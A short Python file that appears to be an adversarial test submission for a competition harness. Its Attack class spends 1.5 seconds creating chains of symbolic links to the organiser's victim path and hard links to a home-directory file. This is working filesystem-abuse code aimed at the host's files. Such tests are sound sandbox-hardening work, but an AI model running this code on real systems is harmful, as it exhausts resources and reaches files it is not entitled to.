"""Makes links without end, to the organiser's files and to each other, for a second and a half."""

import os
import time

from aim import AIM, HOME, attempt

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        end, number = time.monotonic() + 1.5, 0
        os.close(os.open(f"{HOME}/file", os.O_CREAT | os.O_WRONLY))
        while time.monotonic() < end:
            number += 1
            os.symlink(AIM["victim"] if number % 2 else f"{HOME}/s{number - 1}", f"{HOME}/s{number}")
            attempt(os.link, f"{HOME}/file", f"{HOME}/h{number}")
